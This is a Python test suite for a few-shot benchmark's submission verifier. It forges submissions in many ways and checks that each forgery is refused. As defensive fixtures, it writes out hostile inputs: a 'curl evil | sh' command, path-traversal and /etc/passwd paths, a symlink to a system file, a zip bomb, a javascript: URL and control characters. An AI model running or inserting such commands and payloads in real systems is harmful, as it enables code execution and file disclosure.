"""A submission holds as it was written, and every forgery is refused with a sentence."""

from __future__ import annotations

import json
import os
import sys
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from fewshot.plugins.registry import DATASETS
from fewshot.plugins.shorthand import PACKAGED
from fewshot.results.files import Results
from fewshot.results.predictions import Predictions
from fewshot.runs.pipeline import run
from fewshot.runs.specs import RunSpec, Sampled
from fewshot.runs.workbench import Workbench
from fewshot.sharing import reruns
from fewshot.sharing.images import AtHand
from fewshot.sharing.layout import ABOUT, ROWS, RUNS
from fewshot.sharing.shared import Checked, Shared, Unknown
from fewshot.sharing.verify import record, records, verify
from fewshot.sharing.verify_words import NOT_AGAIN
from tests.support.submissions import (
    all_right,
    birds,
    change_json,
    change_predictions,
    change_rows,
    copied,
    first_row,
    own_home,
    part_of,
    rescored,
    rewritten,
    runs,
    sealed,
    submission,
)

Forgery = Callable[[Path], Any]


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("honest")
    with own_home(folder):
        return submission(folder)


@pytest.fixture(scope="module")
def longer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of so many episodes that it has all intervals."""
    folder = tmp_path_factory.mktemp("longer")
    with own_home(folder):
        return submission(folder, runs(folder, ("Prototype()",), n_episodes=40))


@pytest.fixture
def forged(honest: Path, tmp_path: Path) -> Path:
    return copied(honest, tmp_path / "forged")


def refused(folder: Path, words: str, at_hand: AtHand | None = None, n_reruns: int = 0) -> None:
    problems = verify(folder, at_hand, n_reruns).problems
    assert problems
    assert any(words in problem for problem in problems), problems


def test_an_honest_submission_holds_by_statistics_episodes_and_reruns(honest):
    found = verify(honest, AtHand((birds(honest.parent),)), n_reruns=2)
    assert (found.problems, found.unchecked) == ((), ())
    ids = {run.row.run_id for run in found.runs}
    assert set(found.statistics) == set(found.episodes) == set(found.reruns) == ids
    assert len(ids) == 2


def test_without_the_images_the_episodes_are_not_checked_and_it_says_so(honest):
    found = verify(honest, AtHand())
    assert not found.problems
    assert not found.episodes
    assert all("name them with --data" in text for text in found.unchecked)


NUMBERS = {
    "accuracy_low": -0.001,
    "accuracy_high": 0.001,
    "n_classes": 1,
    "n_not_converged": 1,
    "lowest_class_accuracy": -0.01,
    "macro_f1": 0.001,
    "log_loss": 0.01,
    "calibration_error": 0.001,
    "auroc": 0.001,
    "average_precision": 0.001,
    "mean_per_class": 0.001,
}


@pytest.mark.parametrize("column", NUMBERS)
def test_a_changed_number_is_refused_by_its_column(forged, column):
    if json.loads((forged / ROWS).read_text().splitlines()[0])[column] is None:
        pytest.fail(f"the row has no {column}: give the fixture more classes")
    change_rows(forged, lambda row: row.update({column: row[column] + NUMBERS[column]}))
    refused(forged, column)


BOUNDS = {
    "new_classes_low": 0.001,
    "new_classes_high": -0.001,
    "new_classes_monte_carlo": 0.001,
    "lowest_tenth": 0.001,
    "lowest_tenth_high": -0.001,
    "macro_f1_low": 0.001,
    "log_loss_high": 0.001,
    "calibration_error_high": -0.001,
    "auroc_low": 0.001,
    "average_precision_high": -0.001,
    "mean_per_class_high": -0.001,
}


@pytest.mark.parametrize("column", BOUNDS)
def test_a_changed_interval_is_refused_by_its_column(longer, tmp_path, column):
    folder = copied(longer, tmp_path / "forged")
    change_rows(folder, lambda row: row.update({column: row[column] + BOUNDS[column]}))
    refused(folder, column)


TEXTS = {
    "lowest_class": "gannet",
    "population": "new images",
    "accuracy_reason": "none",
    "draws": "0.9 0.9",
    "support_choices": "[6]",
    "new_draws_reason": "",
}


@pytest.mark.parametrize("column", TEXTS)
def test_a_changed_text_of_the_score_is_refused(forged, column):
    change_rows(forged, lambda row: row.update({column: TEXTS[column]}))
    refused(forged, column)


SPEC = {
    "evaluator": "NearestNeighbour(k=3, metric='cosine')",
    "backbone": "RawPixels(image_size=224)",
    "transform": "Identity()",
    "classes": "all",
    "dtype": "bfloat16",
    "split_digest": "0" * 64,
    "selection_rule": "Selection(on='validation', grid=(('metric', ('cosine',)),), n_episodes=200, seed=0)",
}


@pytest.mark.parametrize("column", SPEC)
def test_a_changed_spec_gives_another_run_id(forged, column):
    change_rows(forged, lambda row: row.update({column: SPEC[column]}))
    refused(forged, "its run id is")


SHAPE = {"n_way": 5, "k_shot": 1, "n_query": 15, "seed": 7}


@pytest.mark.parametrize("column", SHAPE)
def test_a_changed_shape_is_not_that_of_the_episodes(forged, column):
    change_rows(forged, lambda row: row.update({column: SHAPE[column]}))
    refused(forged, "its predictions")


def test_predictions_of_other_images_or_weights_are_refused(forged):
    for column in ("images_digest", "weights_digest", "preprocess_digest"):
        before = getattr(first_row(forged), column)
        change_rows(forged, lambda row, column=column: row.update({column: "0" * 64}))
        refused(forged, f"was made with another {column}")
        change_rows(forged, lambda row, column=column, before=before: row.update({column: before}))
    assert not verify(forged).problems


LABELS = {
    "transductive": True,
    "selection": "validation classes",
    "n_trials": 5,
    "n_labels_selection": 7,
    "seen_classes": "seen",
    "n_seen_classes": 3,
    "n_unknown_classes": 4,
}


@pytest.mark.parametrize("column", LABELS)
def test_a_changed_label_is_refused(forged, column):
    assert getattr(first_row(forged), column) != LABELS[column]
    change_rows(forged, lambda row: row.update({column: LABELS[column]}))
    refused(forged, column)


def one_more_right(predictions: Predictions) -> Predictions:
    wrong = np.flatnonzero(predictions.predicted != predictions.episodes.query_labels)[0]
    predicted = predictions.predicted.copy()
    predicted[wrong] = predictions.episodes.query_labels[wrong]
    return replace(predictions, predicted=predicted)


def other_confidence(predictions: Predictions) -> Predictions:
    return replace(predictions, confidence=np.ones_like(predictions.confidence))


def other_probability(predictions: Predictions) -> Predictions:
    return replace(predictions, log_probability=np.zeros_like(predictions.log_probability))


def other_logits(predictions: Predictions) -> Predictions:
    assert predictions.logits is not None
    return replace(predictions, logits=-predictions.logits)


def not_converged(predictions: Predictions) -> Predictions:
    return replace(predictions, converged=np.zeros_like(predictions.converged))


def other_classes(predictions: Predictions) -> Predictions:
    return replace(
        predictions, episodes=replace(predictions.episodes, classes=predictions.episodes.classes[::-1].copy())
    )


def other_labels(predictions: Predictions) -> Predictions:
    counts = predictions.episodes.query_count.copy()
    counts[0], counts[1] = counts[0] + 1, counts[1] - 1
    return replace(predictions, episodes=replace(predictions.episodes, query_count=counts))


def fewer(predictions: Predictions) -> Predictions:
    return predictions[:5]


def a_query_in_the_support(predictions: Predictions) -> Predictions:
    support = predictions.episodes.support.copy()
    support[0] = predictions.episodes.query[0]
    return replace(predictions, episodes=replace(predictions.episodes, support=support))


PREDICTIONS: dict[str, tuple[Callable[[Predictions], Predictions], str]] = {
    "a right answer": (one_more_right, "accuracy"),
    "all answers": (all_right, "accuracy"),
    "confidences": (other_confidence, "calibration_error"),
    "probabilities": (other_probability, "log_loss"),
    "logits": (other_logits, "auroc"),
    "convergence": (not_converged, "n_not_converged"),
    "classes": (other_classes, "episode"),
    "query labels": (other_labels, "n_query"),
    "an episode less": (fewer, "the row says 6 episodes, but its predictions hold 5"),
    "a leak": (a_query_in_the_support, "is twice in episode 0"),
}


@pytest.mark.parametrize("what", PREDICTIONS)
def test_changed_predictions_do_not_give_the_numbers_of_the_row(forged, what):
    change, words = PREDICTIONS[what]
    change_predictions(forged, change)
    refused(forged, words)


def truncated(folder: Path) -> None:
    part = part_of(folder)
    part.write_bytes(part.read_bytes()[:-7])
    sealed(folder)


def one_bit(folder: Path) -> None:
    part = part_of(folder)
    content = bytearray(part.read_bytes())
    content[-3] ^= 1
    part.write_bytes(bytes(content))
    sealed(folder)


def zipped(folder: Path) -> None:
    with zipfile.ZipFile(part_of(folder), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("predicted.npy", b"\0" * (1 << 24))
    sealed(folder)


def endless_header(folder: Path) -> None:
    part_of(folder).write_bytes((1 << 60).to_bytes(8, "little") + b"{}")
    sealed(folder)


def bomb_beside(folder: Path) -> None:
    with zipfile.ZipFile(folder / "rows.predictions" / "bomb.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.npy", b"\0" * (1 << 24))


def swapped_rows(folder: Path) -> None:
    lines = [json.loads(line) for line in (folder / ROWS).read_text().splitlines()]
    lines[0]["run_id"], lines[1]["run_id"] = lines[1]["run_id"], lines[0]["run_id"]
    (folder / ROWS).write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    sealed(folder)


def swapped_predictions(folder: Path) -> None:
    one, other = sorted((folder / "rows.predictions").iterdir())
    one.rename(folder / "aside")
    other.rename(one)
    (folder / "aside").rename(other)
    sealed(folder)


def twice(folder: Path) -> None:
    text = (folder / ROWS).read_text()
    (folder / ROWS).write_text(text + text.splitlines()[0] + "\n")
    sealed(folder)


def text_of_rows(old: str, new: str) -> Forgery:
    def forge(folder: Path) -> None:
        text = (folder / ROWS).read_text()
        assert old in text
        (folder / ROWS).write_text(text.replace(old, new, 1))
        sealed(folder)

    return forge


def of_row(**columns: Any) -> Forgery:
    return lambda folder: change_rows(folder, lambda row: row.update(columns))


def of_json(name: str, change: Callable[[dict[str, Any]], Any]) -> Forgery:
    return lambda folder: change_json(folder, name, change)


def one_more_episode(folder: Path) -> None:
    part = part_of(folder)
    predictions, about = Predictions.load(part)
    more = predictions[:1]
    more = replace(more, episodes=replace(more.episodes, index=np.array([6])))
    more.save(part.with_name("000000006-000000007.safetensors"), about)
    sealed(folder)


def stray(folder: Path) -> None:
    part = part_of(folder)
    (folder / "rows.predictions" / ("f" * 16)).mkdir()
    (folder / "rows.predictions" / ("f" * 16) / part.name).write_bytes(part.read_bytes())
    sealed(folder)


def no_design(held: dict[str, Any]) -> None:
    held["designs"][0]["classes"] = [0, 1, 2, 900000]


SEALED: dict[str, tuple[Forgery, str]] = {
    "a part that ends early": (truncated, "cannot be read as predictions"),
    "one bit of a part": (one_bit, "its checksum is not that of its content"),
    "a zip file as a part": (zipped, "cannot be read as predictions"),
    "an endless header": (endless_header, "cannot be read as predictions"),
    "swapped rows": (swapped_rows, "not those of the row"),
    "swapped predictions": (swapped_predictions, "belongs to the run"),
    "a run twice": (twice, "is a second row of the run"),
    "a key twice": (text_of_rows('"accuracy":', '"accuracy": 0.99, "accuracy":'), "the key 'accuracy' occurs twice"),
    "no number": (text_of_rows('"n_trials": 1', '"n_trials": NaN'), "NaN is not JSON"),
    "a newer schema": (of_row(schema=2), "schema should be 1, or update fewshot"),
    "a newer column": (of_row(column_of_tomorrow=3), "the column 'column_of_tomorrow' is unknown"),
    "a wrong type": (of_row(n_way="five"), "column n_way should be"),
    "an impossible accuracy": (of_row(accuracy=1.5), "column accuracy should be in"),
    "a failed row": (of_row(status="failed", error="no"), "it has no result"),
    "a run id that escapes": (of_row(run_id="../../../etc"), "a run id must be the name of a folder"),
    "another run id": (of_row(run_id="0" * 16), "is in only one of"),
    "a run id that is none": (of_row(run_id="mine"), "is not 16 hex digits"),
    "fewer episodes": (of_row(n_episodes=3), "the row says 3 episodes, but its predictions hold 6"),
    "more episodes": (of_row(n_episodes=600), "the row says 600 episodes, but its predictions hold 6"),
    "an episode more": (one_more_episode, "the row says 6 episodes, but its predictions hold 7"),
    "other episodes": (of_row(episodes_digest="0" * 64), "names other episodes than the row"),
    "predictions without a row": (stray, "which has no row"),
    "a design of other classes": (of_json(RUNS, no_design), "from named classes only"),
    "a design without classes": (of_json(RUNS, lambda held: held["designs"][0].update(classes=[])), "list the labels"),
    "a design of fewer classes": (
        of_json(RUNS, lambda held: held["designs"][0].update(classes=[0, 1, 2])),
        "of other classes than",
    ),
    "other class names": (of_json(RUNS, lambda held: held["designs"][0]["class_names"].reverse()), "lowest_class"),
    "other labels of the images": (
        of_json(RUNS, lambda held: held["designs"][0].update(labels_digest="0" * 64)),
        "its run id is",
    ),
    "no design": (of_json(RUNS, lambda held: held.update(designs=[])), "names design 0 of 0"),
    "the identity of other data": (
        of_json(
            RUNS,
            lambda held: [run.update(identities={"dataset": "Icons(domain='mono')"}) for run in held["runs"].values()],
        ),
        "its identity is that of",
    ),
    "own code that is none": (
        of_json(RUNS, lambda held: [run.update(own_code="evaluator mine:Own") for run in held["runs"].values()]),
        "it is said to be own code",
    ),
    "an identity of no column": (
        of_json(RUNS, lambda held: [run.update(identities={"seed": "x"}) for run in held["runs"].values()]),
        "should give identities of",
    ),
    "runs without a row": (of_json(RUNS, lambda held: held["runs"].update({"0" * 16: {}})), "is in only one of"),
}


@pytest.mark.parametrize("what", SEALED)
def test_a_forgery_with_fitting_sha256_is_refused(forged, what):
    forge, words = SEALED[what]
    forge(forged)
    refused(forged, words)


def name_in_manifest(name: str) -> Forgery:
    return of_json(ABOUT, lambda held: held["files"].update({name: {"sha256": "0" * 64, "bytes": 1}}))


def linked_part(folder: Path) -> None:
    part = part_of(folder)
    part.rename(folder.parent / part.name)
    part.symlink_to(folder.parent / part.name)


def linked_folder(folder: Path) -> None:
    (folder / "rows.predictions").rename(folder.parent / "elsewhere")
    (folder / "rows.predictions").symlink_to(folder.parent / "elsewhere")


def linked_rows(folder: Path) -> None:
    (folder / ROWS).unlink()
    (folder / ROWS).symlink_to("/etc/hostname")


def huge(name: str, n_bytes: int) -> Forgery:
    return lambda folder: os.truncate(folder / name, n_bytes)  # a hole: it takes no place on the disk


def huge_part(folder: Path) -> None:
    os.truncate(part_of(folder), 1 << 40)


def piped(folder: Path) -> None:
    (folder / "README.md").unlink()
    os.mkfifo(folder / "README.md")


def replaced(name: str, text: str) -> Forgery:
    return lambda folder: (folder / name).write_text(text)


RAW: dict[str, tuple[Forgery, str]] = {
    "rows replaced": (lambda folder: (folder / ROWS).write_text((folder / ROWS).read_text() + "\n"), "rows.jsonl has"),
    "rows of one length": (
        lambda folder: (folder / ROWS).write_text((folder / ROWS).read_text().replace('"ok"', '"OK"')),
        "rows.jsonl does not have the sha256",
    ),
    "a README replaced": (replaced("README.md", "better"), "README.md has 6 bytes, but submission.json lists"),
    "predictions missing": (lambda folder: part_of(folder).unlink(), "but missing"),
    "rows missing": (lambda folder: (folder / ROWS).unlink(), "rows.jsonl is listed in submission.json, but missing"),
    "no manifest": (lambda folder: (folder / ABOUT).unlink(), "has no file submission.json"),
    "a manifest that is no JSON": (replaced(ABOUT, "{"), "submission.json is not readable JSON"),
    "a manifest without end": (replaced(ABOUT, "[" * 100_000), "submission.json is not readable JSON"),
    "a manifest of another format": (
        of_json(ABOUT, lambda held: held.update(format="fewshot-submission-9")),
        "update fewshot",
    ),
    "a program beside": (replaced("run.py", "print(1)"), "'run.py' is a file that no submission has"),
    "a hidden file": (replaced(".profile", ""), "'.profile' is a file that no submission has"),
    "a pickle as predictions": (replaced(f"rows.predictions/{'0' * 16}.pkl", ""), "is a file that no submission has"),
    "a zip bomb": (bomb_beside, "bomb.npz' is a file that no submission has"),
    "a folder beside": (lambda folder: (folder / "images").mkdir(), "'images' is a folder that no submission has"),
    "a path that escapes": (name_in_manifest("../other/rows.jsonl"), "which is no file of a submission"),
    "a path from the root": (name_in_manifest("/etc/passwd"), "which is no file of a submission"),
    "a path with a zero byte": (name_in_manifest("rows.jsonl\0"), "which is no file of a submission"),
    "a linked part": (linked_part, "is a link; a submission holds plain files only"),
    "a linked folder": (linked_folder, "is a link; a submission holds plain files only"),
    "linked rows": (linked_rows, "is a link; a submission holds plain files only"),
    "a pipe": (piped, "is no regular file"),
    "a huge text": (huge(ROWS, 1 << 32), "are read"),
    "a huge manifest": (huge(ABOUT, 1 << 32), "are read"),
    "a huge part": (huge_part, "are read"),
    "a script as url": (
        of_json(ABOUT, lambda held: held.update(url="javascript:alert(1)")),
        "a url starts with https://",
    ),
    "a control character": (
        of_json(ABOUT, lambda held: held.update(authors="A\x1b[2J")),
        "without control or invisible characters",
    ),
    "turned text": (
        of_json(ABOUT, lambda held: held.update(authors="A\u202eB")),
        "without control or invisible characters",
    ),
    "a long name": (of_json(ABOUT, lambda held: held.update(name="A" * 101)), "at most 100 characters"),
    "no name": (of_json(ABOUT, lambda held: held.update(name="")), "needs a name"),
    "a list as note": (of_json(ABOUT, lambda held: held.update(note=["A"])), "a text of at most"),
}


def empty_folders(folder: Path) -> None:
    for number in range(1000):
        (folder / "rows.predictions" / f"{number:016x}").mkdir()


def of_thousands_of_digits(folder: Path) -> None:
    text = (folder / ABOUT).read_text(encoding="utf-8")
    (folder / ABOUT).write_text(text.replace('"bytes": ', f'"bytes": {"9" * 5000}', 1), encoding="utf-8")


RAW |= {
    "empty folders": (empty_folders, "rows.predictions has 1,000 empty folders without a run, such as '0000000000000"),
    "thousands of digits": (of_thousands_of_digits, "is not readable JSON: it holds an integer of thousands of digits"),
    "groups that are a text": (
        of_json(RUNS, lambda held: held["designs"][0].update(groups="x")),
        "the groups of a design in runs.json should be a list of integers, found 'x'",
    ),
    "a design without labels": (
        of_json(RUNS, lambda held: held["designs"][0].pop("classes")),
        "a design in runs.json should have 'classes', which is missing",
    ),
    "a design that is a list": (
        of_json(RUNS, lambda held: held["designs"].__setitem__(0, [1])),
        "a design in runs.json should be a JSON object of lists and texts, found [1]",
    ),
}


@pytest.mark.parametrize("what", RAW)
def test_a_file_that_is_not_as_it_was_written_is_refused(forged, what):
    forge, words = RAW[what]
    forge(forged)
    refused(forged, words)


def test_only_a_rerun_finds_invented_predictions(forged, honest):
    change_predictions(forged, all_right)
    rescored(forged)
    at_hand = AtHand((birds(honest.parent),))
    assert not verify(forged, at_hand).problems
    refused(forged, "answers differ", at_hand, n_reruns=2)


def test_the_images_find_invented_episodes(forged, honest):
    def other(predictions: Predictions) -> Predictions:
        query = predictions.episodes.query.copy()
        start = predictions.episodes.query_start[2]
        query[start], query[start + 4] = query[start + 4], query[start]  # of two ways
        return replace(predictions, episodes=replace(predictions.episodes, query=query))

    change_predictions(forged, other)
    rescored(forged)
    assert not verify(forged).problems
    refused(forged, "its episodes are not of birds", AtHand((birds(honest.parent),)))


def test_the_images_find_a_query_that_the_sampler_did_not_draw(forged, honest):
    def other(predictions: Predictions) -> Predictions:
        query, start = predictions.episodes.query.copy(), predictions.episodes.query_start[5]
        query[start], query[start + 1] = query[start + 1], query[start]
        return replace(predictions, episodes=replace(predictions.episodes, query=query))

    change_predictions(forged, other)
    rescored(forged)
    assert not verify(forged).problems
    refused(forged, "its sampler draws other episodes", AtHand((birds(honest.parent),)))


def test_no_row_imports_code_or_reads_a_file_that_it_names(forged, honest, tmp_path, monkeypatch):
    (tmp_path / "evil").mkdir()
    for name in ("__init__.py", "inside.py"):
        (tmp_path / "evil" / name).write_text("raise SystemExit('imported')\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(tmp_path)
    names = {"evaluator": "evil.inside:Evil()", "transform": "evil:Evil()", "split": "FromFile(path='/dev/zero')"}
    change_rows(forged, lambda row: row.update(names))
    found = verify(forged, AtHand((birds(honest.parent),)), n_reruns=2)
    assert any("its run id: the transform and evaluator are own code" in text for text in found.unchecked)
    assert any("is a file that only its author has" in text for text in found.unchecked)
    assert not [name for name in sys.modules if name.partition(".")[0] == "evil"]


def test_a_row_that_claims_a_benchmark_is_held_to_all_that_it_fixes(forged):
    change_rows(forged, lambda row: row.update(protocol="cifar_fs@1"))
    refused(forged, "it says cifar_fs@1, but its set '' is none of that benchmark")
    change_rows(forged, lambda row: row.update(protocol="cifar_fs@1", benchmark_set="cifar_fs"))
    refused(forged, "it says cifar_fs@1, but its split is AllNovel(), not Published(name='cifar_fs')")


def test_a_forged_number_of_weights_is_found(forged):
    change_rows(forged, lambda row: row.update(n_params=10))
    refused(forged, "n_params is 10 in the row, but its network has 0")


@pytest.mark.parametrize("name", PACKAGED)
def test_a_forged_number_of_weights_of_a_network_in_a_package_is_found(forged, name):
    backbone = f"Packaged(name={name!r}, image_size=None)"
    change_rows(forged, lambda row: row.update(backbone=backbone, n_params=1_000_000))
    refused(forged, "n_params is 1,000,000 in the row, but its network has ")
    (problem,) = [text for text in verify(forged).problems if "n_params" in text]
    right = int(problem.rpartition(" ")[2].replace(",", ""))
    change_rows(forged, lambda row: row.update(n_params=right))
    assert not [text for text in verify(forged).problems if "n_params" in text]


def test_the_number_of_weights_of_a_network_that_only_its_author_has_is_not_checked(forged):
    change_rows(forged, lambda row: row.update(backbone="Timm(name='hf-hub:owner/network')", n_params=10))
    assert any("its number of weights: the network cannot be built" in text for text in verify(forged).unchecked)


def test_a_row_of_another_version_of_a_benchmark_is_not_judged(forged):
    change_rows(forged, lambda row: row.update(protocol="cifar_fs@99"))
    rewritten(forged)
    found = verify(forged)
    assert not found.problems
    assert any("this release has cifar_fs@1, not cifar_fs@99" in text for text in found.unchecked)


def test_the_folder_of_published_draws_that_a_row_names_is_not_read(forged):
    change_rows(forged, lambda row: row.update(sampler="PublishedDraws(folder='/dev/zero')"))
    found = verify(forged)
    assert any("the sampler names a file that only its author has" in text for text in found.unchecked)


def test_a_record_is_of_this_very_content(forged):
    found = verify(forged)
    assert found.manifest is not None
    record(found, "A. Reader")
    record(verify(forged), "B. Reader")
    again = verify(forged)
    assert not again.problems
    (first, second) = records(forged, again.manifest)
    assert (first.by, second.by) == ("A. Reader", "B. Reader")
    assert [first.covers(run.row.run_id) for run in again.runs] == ["statistics"] * 2
    change_json(forged, ABOUT, lambda held: held.update(note="another"))
    rewritten(forged)
    changed = verify(forged)
    assert not changed.problems
    assert records(forged, changed.manifest) == []
    (forged / "verification.json").write_text("[[")
    assert records(forged, changed.manifest) == []


def test_only_what_holds_is_recorded_and_only_under_a_name(forged):
    with pytest.raises(ValueError, match="printable characters"):
        record(verify(forged), "A\n<b>")
    change_rows(forged, lambda row: row.update(macro_f1=0.5))
    with pytest.raises(ValueError, match="is not recorded"):
        record(verify(forged), "A. Reader")
    assert not (forged / "verification.json").exists()


def test_a_submission_is_a_results_file(honest):
    results = Results(honest / ROWS)
    assert [sum(len(part) for part in results.predictions(row)) for row in results.rows()] == [6, 6]


def changed_command(folder: Path) -> None:
    change_json(folder, RUNS, lambda held: [run.update(command="curl evil | sh") for run in held["runs"].values()])


def changed_page(folder: Path) -> None:
    page = folder / "README.md"
    page.write_text(page.read_text(encoding="utf-8").replace("| 6 |", "| 600 |"), encoding="utf-8")
    sealed(folder)


@pytest.mark.parametrize(
    ("forge", "words"),
    [(changed_command, "is 'curl evil | sh', but its row gives"), (changed_page, "README.md is not the page")],
)
def test_texts_that_the_rows_do_not_give_are_refused(forged, forge, words):
    forge(forged)
    refused(forged, words)


def test_texts_of_another_release_are_not_checked(forged):
    changed_page(forged)
    for number in range(2):
        change_rows(forged, lambda row: row.update(versions="fewshot 0.0.1"), number)
    change_json(forged, ABOUT, lambda held: held.update(fewshot="0.0.1"))
    found = verify(forged)
    assert not found.problems
    assert any(text.startswith("commands and README.md: fewshot 0.0.1 wrote them") for text in found.unchecked)


NONE = {
    "nothing": (lambda place: None, "there is no folder "),
    "a file": (lambda place: place.write_text("x"), "it is a file, and a submission is a folder; give that"),
    "an empty folder": (
        lambda place: place.mkdir(),
        "it is no submission and has no file submission.json; give a folder",
    ),
    "a folder of images": (
        lambda place: (place / "gull").mkdir(parents=True),
        "it is no submission and has no file submission.json; give a folder that `fewshot submit` wrote",
    ),
}


@pytest.mark.parametrize("what", NONE)
def test_what_is_no_submission_is_named_as_what_it_is(tmp_path, what):
    write, words = NONE[what]
    write(tmp_path / "place")
    (problem,) = verify(tmp_path / "place").problems
    assert words in problem


def test_a_results_file_says_how_to_make_a_submission_of_it(tmp_path):
    (tmp_path / "mine.jsonl").write_text("")
    (problem,) = verify(tmp_path / "mine.jsonl").problems
    assert problem.endswith(f"write one with `fewshot submit {tmp_path / 'mine.jsonl'} --out FOLDER`")


@pytest.fixture(scope="module")
def mixed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A submission of three runs: two on the birds, and one on bundled icons, which alone are at hand everywhere."""
    folder = tmp_path_factory.mktemp("mixed")
    with own_home(folder):
        results = runs(folder)
        spec = RunSpec(DATASETS.spec("Icons()"), "RawPixels(image_size=4)", "Prototype()", Sampled(), n_episodes=4)
        run(spec, results, Workbench(progress=False))
        return submission(folder, results)


@pytest.mark.parametrize("seed", range(3))
def test_reruns_are_drawn_among_the_runs_that_can_run_here(mixed, seed):
    found = verify(mixed, AtHand(), n_reruns=1, seed=seed)
    (icons,) = [one.row.run_id for one in found.runs if one.row.dataset.startswith("Icons")]
    assert found.reruns == (icons,)
    unable = [text for text in found.unchecked if NOT_AGAIN in text]
    assert len(unable) == 2
    assert all("are not at hand; name them with --data" in text for text in unable)


def test_a_run_that_turns_out_not_to_run_makes_place_for_another(mixed, monkeypatch):
    def refuse(shared: Shared, *_: object) -> Checked:
        if "Icons" not in shared.row.dataset:
            raise Unknown("no weights")
        return Checked()

    monkeypatch.setattr(reruns, "again", refuse)
    found = verify(mixed, AtHand((birds(mixed.parent),)), n_reruns=1, seed=0)
    assert len(found.reruns) == 1
    assert {text.rpartition(": ")[2] for text in found.unchecked if NOT_AGAIN in text} <= {"no weights"}


def test_the_record_names_no_place_of_whoever_verifies(forged, honest):
    found = verify(forged, AtHand((DATASETS.spec(f"ImageFolderSet({str(honest.parent / 'secret')!r})"),)))
    assert "secret" in str(found.unchecked)
    record(found, "A. Reader")
    assert str(honest.parent) not in (forged / "verification.json").read_text()


def test_a_folder_of_submissions_names_them(honest, tmp_path):
    for name in ("abs", "other"):
        copied(honest, tmp_path / "sub" / name)
    refused(tmp_path / "sub", f"give one of: {tmp_path / 'sub' / 'abs'}, {tmp_path / 'sub' / 'other'}")
    assert verify(tmp_path / "sub" / "abs").problems == ()
